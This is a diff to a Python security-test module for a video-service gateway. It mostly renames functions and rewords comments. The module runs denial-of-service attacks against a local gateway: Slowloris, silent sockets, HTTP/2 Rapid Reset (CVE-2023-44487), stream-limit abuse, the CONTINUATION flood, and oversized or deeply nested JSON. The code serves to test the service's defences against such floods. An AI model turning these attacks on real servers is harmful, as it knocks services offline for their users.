@@ -1,6 +1,6 @@
-"""Attacks: what hostile clients do to the gateway, each in a process of its own.
+"""Attacks of hostile clients on the gateway, each in a process of its own.
 
-`python -m tests.security.attacks NAME PORT TOKEN` goes on until it is killed, and prints a line of JSON at every round.
+`python -m tests.security.attacks NAME PORT TOKEN` runs until it is killed, and prints a line of JSON for every round.
 """
 
 from __future__ import annotations
@@ -24,17 +24,17 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 LIST = "/moneyprinter.video.v1.VideoService/ListVideos"
 
 
-def said(**words: object) -> None:
+def report(**words: object) -> None:
     print(json.dumps(words), flush=True)
 
 
-async def opened(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+async def connect(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
     return await asyncio.open_connection("127.0.0.1", port)
 
 
-async def dripped(port: int, first: bytes, drip: bytes) -> str:
-    """Begin a request, and go on with a drop now and then, until there is an answer; returns its status."""
-    reader, writer = await opened(port)
+async def send_slowly(port: int, first: bytes, drip: bytes) -> str:
+    """Start a request, and send a few bytes at intervals until there is a response; returns its status."""
+    reader, writer = await connect(port)
     writer.write(first)
     answer = asyncio.create_task(reader.readline())
     with suppress(ConnectionError):
@@ -49,24 +49,24 @@ async def dripped(port: int, first: bytes, drip: bytes) -> str:
 async def _in_rounds(one: Callable[[], Awaitable[str]]) -> None:
     while True:
         answers = await asyncio.gather(*(one() for _ in range(SOCKETS)))
-        said(answers=collections.Counter(answers))
+        report(answers=collections.Counter(answers))
 
 
 async def slow_headers(port: int, token: str) -> None:
-    """Slow-loris: 200 sockets whose headers never end."""
-    await _in_rounds(lambda: dripped(port, b"GET /v1/videos HTTP/1.1\r\nhost: here\r\n", b"x-more: 1\r\n"))
+    """Slowloris: 200 sockets with endless headers."""
+    await _in_rounds(lambda: send_slowly(port, b"GET /v1/videos HTTP/1.1\r\nhost: here\r\n", b"x-more: 1\r\n"))
 
 
 async def slow_bodies(port: int, token: str) -> None:
-    """The same with bodies."""
+    """200 sockets with endless bodies."""
     head = f"POST /v1/videos HTTP/1.1\r\nhost: here\r\ncontent-length: 9999\r\nauthorization: Bearer {token}\r\n\r\n"
-    await _in_rounds(lambda: dripped(port, head.encode(), b"{"))
+    await _in_rounds(lambda: send_slowly(port, head.encode(), b"{"))
 
 
 async def silent(port: int, token: str) -> None:
-    """200 sockets that say nothing at all."""
-    sockets = [await opened(port) for _ in range(SOCKETS)]
-    said(sockets=len(sockets))
+    """200 sockets that send nothing."""
+    sockets = [await connect(port) for _ in range(SOCKETS)]
+    report(sockets=len(sockets))
     await asyncio.Event().wait()
 
 
@@ -86,9 +86,9 @@ def _request(connection: h2.connection.H2Connection, token: str, *, end: bool) -
 
 
 async def rapid_reset(port: int, token: str) -> None:
-    """Streams that are opened and reset at once, a thousand in one go, as fast as they are taken (CVE-2023-44487)."""
+    """Streams that are opened and reset at once, a thousand per connection, as fast as possible (CVE-2023-44487)."""
     while True:
-        reader, writer = await opened(port)
+        reader, writer = await connect(port)
         connection = h2.connection.H2Connection()
         connection.initiate_connection()
         sent = 0
@@ -102,16 +102,16 @@ async def rapid_reset(port: int, token: str) -> None:
             while await asyncio.wait_for(reader.read(65536), 0.5):
                 pass
         writer.transport.abort()
-        said(reset=sent)
+        report(reset=sent)
 
 
 async def too_many_streams(port: int, token: str) -> None:
-    """150 requests at once on one connection, none of which ends, whatever the gateway says it takes."""
+    """150 concurrent unfinished requests on one connection, beyond the limit in the gateway's settings."""
     while True:
-        reader, writer = await opened(port)
+        reader, writer = await connect(port)
         connection = h2.connection.H2Connection()
         connection.initiate_connection()
-        # Sent before the gateway's settings are read, so that they bind nobody.
+        # Send before reading the gateway's settings, so that the client ignores its limit.
         for _ in range(150):
             _request(connection, token, end=False)
         writer.write(connection.data_to_send())
@@ -122,16 +122,16 @@ async def too_many_streams(port: int, token: str) -> None:
                 refused += sum(isinstance(event, h2.events.StreamReset) for event in events)
                 writer.write(connection.data_to_send())
         writer.transport.abort()
-        said(refused=refused)
+        report(refused=refused)
 
 
 async def endless_headers(port: int, token: str) -> None:
-    """Requests whose header blocks go on and on, until the connection is cut (the CONTINUATION flood)."""
+    """Requests with endless header blocks, until the gateway closes the connection (the CONTINUATION flood)."""
     block = hpack.Encoder().encode([(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "here")])
     first: Frame = HeadersFrame(1, data=block)
     more = ContinuationFrame(1, data=hpack.Encoder().encode([(f"x-{number}", "y" * 500) for number in range(20)]))
     while True:
-        _, writer = await opened(port)
+        _, writer = await connect(port)
         writer.write(PREFACE + SettingsFrame(0).serialize() + first.serialize())
         sent = 0
         with suppress(ConnectionError):
@@ -140,11 +140,11 @@ async def endless_headers(port: int, token: str) -> None:
                 await writer.drain()
                 sent += 1
         writer.transport.abort()
-        said(frames=sent)
+        report(frames=sent)
 
 
 async def large_bodies(port: int, token: str) -> None:
-    """JSON of 5 MB, again and again."""
+    """JSON of 5 MB, repeatedly."""
     head = f"POST /v1/videos HTTP/1.1\r\nhost: here\r\ncontent-length: 5000000\r\nauthorization: Bearer {token}\r\n\r\n"
 
     async def send(writer: asyncio.StreamWriter) -> None:
@@ -154,26 +154,26 @@ async def large_bodies(port: int, token: str) -> None:
                 await writer.drain()
 
     while True:
-        reader, writer = await opened(port)
+        reader, writer = await connect(port)
         writer.write(head.encode() + b'{"title": "')
-        # The answer comes while the body is still being sent, of which nobody takes the rest.
+        # The response arrives while the body is still being sent; the gateway does not read the rest.
         sending = asyncio.create_task(send(writer))
         answer = (await reader.readline()).decode().strip()
         sending.cancel()
         writer.transport.abort()
-        said(answers={answer: 1})
+        report(answers={answer: 1})
 
 
 async def deep_json(port: int, token: str) -> None:
-    """JSON of 1000 levels, again and again."""
+    """JSON of 1000 levels, repeatedly."""
     deep = '{"changes":' * 1000 + "1" + "}" * 1000
     for path in ("/v1/videos", "/v1/videos/vid_1/revise") * 1_000_000:
-        reader, writer = await opened(port)
+        reader, writer = await connect(port)
         head = [f"POST {path} HTTP/1.1", "host: here", f"content-length: {len(deep)}", f"authorization: Bearer {token}"]
         writer.write("\r\n".join([*head, "", deep]).encode())
         answer = (await reader.readline()).decode().strip()
         writer.transport.abort()
-        said(answers={answer: 1})
+        report(answers={answer: 1})
 
 
 ATTACKS = {
@@ -186,6 +186,6 @@ ATTACKS = {
 
 
 if __name__ == "__main__":
-    # An attacker comes from elsewhere: it is not to take the processor from those whom it attacks.
+    # A real attacker has a machine of its own: this one must not take the CPU from its victim.
     os.nice(19)
     asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2]), sys.argv[3]))
